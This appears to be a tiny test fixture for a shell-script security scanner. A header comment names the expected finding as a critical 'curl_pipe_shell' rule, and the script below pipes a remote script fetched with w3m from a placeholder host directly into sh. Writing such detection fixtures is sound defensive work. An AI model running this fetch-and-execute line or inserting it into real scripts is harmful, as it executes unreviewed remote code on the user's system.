# expect: shell.curl_pipe_shell critical
#!/bin/sh
w3m -dump_source https://get.example.net/i.sh | sh
